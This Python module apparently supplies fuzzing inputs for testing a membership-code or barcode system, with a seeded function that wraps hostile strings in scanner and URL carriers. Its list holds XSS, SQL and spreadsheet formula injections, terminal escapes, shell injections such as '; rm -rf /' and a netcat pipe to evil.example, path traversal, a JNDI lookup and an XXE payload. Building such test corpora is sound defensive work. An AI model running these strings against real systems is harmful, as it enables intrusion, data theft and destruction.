"""Codes and texts that mean harm: to pages, databases, spreadsheets, terminals, shells, scanners and readers of logs.

Owns the list, and the ways in which a code can carry each. Test code of product quality: the same seed gives the
same codes.
"""

from __future__ import annotations

import random
from urllib.parse import quote

WRITTEN = (
    # pages
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'><iframe src=//evil.example>",
    "</title><base href=//evil.example/>",
    "<a href='javascript:alert(1)'>free points</a>",
    "&lt;script&gt;&#60;b&#62;",
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{constructor.constructor('alert(1)')()}}",
    '<!--#exec cmd="id"-->',
    # databases
    "'; DROP TABLE members; --",
    '" OR ""="',
    "' UNION SELECT key FROM meta --",
    "TS1001' OR '1'='1",
    "%' ESCAPE '\\",
    "1; ATTACH DATABASE '/tmp/x' AS x; --",
    "*)(uid=*))(|(uid=*",
    "'||(SELECT load_extension('x'))||'",
    # spreadsheets
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    ";=1+1;",
    '"=1+1"',
    # terminals and printers
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b2J",
    "\x1b@\x1bp\x00\x19\xfa\x1dV\x00",
    "\x08\x08\x08\x08harmless",
    "first\rsecond",
    "first\nsecond",
    "\x00TS1001",
    "TS1001\x00.exe",
    "\x7f\x80\x85",
    # directions, invisible and unusual characters
    "admin\u202egnp.exe",
    "\u202dTS1001\u202c",
    "\u2066TS\u20691001",
    "TS\u200b1001",
    "TS1001\ufeff",
    "\u2028\u2029",
    "\U000e0054\U000e0053",
    "T\u0300\u0301\u0302\u0303S1001",
    "\uff34\uff33\uff11\uff10\uff10\uff11",
    "Т\u04051001",
    "\ufdfa" * 20,
    "\ud800\udfff",
    "\U0010ffff\ue000",
    # scanners, keyboards and wedges
    "\x16M\r%%SETDEF.",
    "\x16\x4d\x0dPAPHHF.",
    "$%OP+Z",
    "\x1b[0000",
    "\xf3DEFALT",
    "%%SpecCodeAA",
    "\x03\x04\x1a\x1c",
    "]C1",
    "]E0]E0",
    "]Q1]Q3\x1d01",
    # shells, paths, templates and logs
    "$(reboot)",
    "`id`",
    "; rm -rf / #",
    "| nc evil.example 4444",
    "& calc.exe &",
    "%COMSPEC% /c calc",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "/dev/zero",
    "CON",
    "file:///etc/shadow",
    "\\\\evil.example\\share",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "{0.__class__.__mro__}",
    "%s%s%n%x",
    "2026-11-22T09:00:00Z [info] sale_voided total=0",
    "tillside://open?pair=1",
    # documents
    '{"identifier":{"kind":"card","code":"TS1001"}}',
    '","member":"m-ana","x":"',
    '{"a":' * 500,
    "[" * 2000,
    "NaN",
    "1e999999",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "BEGIN:VCARD\nFN:Eve\nURL:javascript:alert(1)\nEND:VCARD",
    "WIFI:T:WPA;S:evil;P:evil;;",
    "tel:+38690123456",
    "sms:+38690123456:PIN",
    "mailto:a@evil.example?subject=x",
    "bitcoin:1BoatSLRHtKNngkdXEobR76b53LETtpyT?amount=20",
    # sizes
    "7" * 20_000,
    "-" * 9_000,
    "a/" * 4_096,
    " " * 9_000,
    "\u202e" * 9_000,
    "(((((((((a)*)*)*)*)*)*)*)*)*",
    "a" * 63 + "!",
)
_CARRIERS = (
    "{}",
    "]Q1{}",
    "]C0{}",
    "]A0{}",
    "]d2{}",
    "]C1{}",
    "]E0{}",
    "]e0{}",
    "]Q3\x1d0109501101530003" + "21{}",
    "]C18018{}",
    "]C1240{}\x1d10{}",
    "https://club.example/m/{}",
    "https://club.example/m/{quoted}?x=1",
    "https://id.example/01/09501101530003/21/{quoted}",
    "29{}",
    "M{}",
    "{}TS1001",
    "TS1001{}",
    "%{}?",
    "%B9000123456^{}^9912?",
    ";{}?",
    "+{}?;E?",
)


def hostile_codes(count: int, chance: random.Random) -> list[str]:
    """`count` different codes: each written text alone, then in random carriers, doubled, cut or joined."""
    codes = dict.fromkeys(WRITTEN)
    while len(codes) < count:
        text = chance.choice(WRITTEN)[:2_000]
        match chance.randrange(4):
            case 0:
                text += chance.choice(WRITTEN)[:200]
            case 1:
                text = text[chance.randrange(len(text)) :]
            case 2:
                text = text.upper()
        carrier = chance.choice(_CARRIERS)
        quoted = quote(text, safe="", errors="replace")
        codes[carrier.replace("{quoted}", quoted).replace("{}", text)] = None
    return list(codes)[:count]
